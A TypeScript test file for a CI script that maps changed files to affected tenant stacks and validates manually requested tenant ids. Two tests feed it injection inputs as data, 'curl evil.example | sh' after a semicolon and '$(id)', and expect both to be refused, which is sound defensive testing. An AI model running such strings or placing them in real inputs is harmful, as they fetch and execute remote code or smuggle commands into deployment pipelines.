import { spawnSync } from 'node:child_process';
import { resolve } from 'node:path';
import { affectedTenants, requestedTenants } from '../../scripts/affected-tenants';

const TENANTS = ['acme', 'globex'];
const ids: Record<string, string> = { 'tenants/acme.json': 'acme', 'tenants/globex.json': 'globex', 'tenants/new.json': 'initech' };
const idOfFile = (f: string) => ids[f];

describe('affected tenants', () => {
  it('given one tenant file changed, when the affected tenants are computed, then only that tenant is', () => {
    expect(affectedTenants(['tenants/globex.json', 'README.md'], TENANTS, idOfFile)).toEqual(['globex']);
  });

  it('given shared code changed, when the affected tenants are computed, then every tenant is', () => {
    for (const f of ['src/pipeline/ingest.ts', 'stacks/tenant-stack.ts', 'functions/ingest/index.ts', 'scripts/bundle.ts', 'main.ts', 'cdktf.json', 'package.json', 'package-lock.json']) {
      expect(affectedTenants(['tenants/acme.json', f], TENANTS, idOfFile)).toEqual(['acme', 'globex']);
    }
  });

  it('given only docs, tests and the local runtime changed, when the affected tenants are computed, then none is', () => {
    expect(affectedTenants(['README.md', 'docs/detections.md', 'test/cli/cli.test.ts', 'local/demo.ts', 'cli/main.ts'], TENANTS, idOfFile)).toEqual([]);
  });

  it('given a deleted tenant file or one that is not a tenant yet, when the affected tenants are computed, then it names no stack', () => {
    expect(affectedTenants(['tenants/gone.json', 'tenants/new.json'], TENANTS, idOfFile)).toEqual([]);
  });

  it('given a request by hand, when it names tenants or "all", then those tenants are deployed; anything else is refused', () => {
    expect(requestedTenants('all', TENANTS)).toEqual(['acme', 'globex']);
    expect(requestedTenants('', TENANTS)).toEqual(['acme', 'globex']);
    expect(requestedTenants('globex, acme globex', TENANTS)).toEqual(['acme', 'globex']);
    expect(() => requestedTenants('acme; curl evil.example | sh', TENANTS)).toThrow(/not tenant ids: "acme;", "curl"/);
    expect(() => requestedTenants('tenant-*', TENANTS)).toThrow(/not tenant ids/);
  });

  it('given a dispatch input that is not a tenant, when the script runs, then it exits 2 and prints no list', () => {
    const r = spawnSync(process.execPath, ['--import', 'tsx', resolve(__dirname, '../../scripts/affected-tenants.ts'), '--requested', '$(id)'], { encoding: 'utf8', env: { ...process.env, GITHUB_OUTPUT: '' } });
    expect(r.status).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/not tenant ids: "\$\(id\)"/);
  });
});
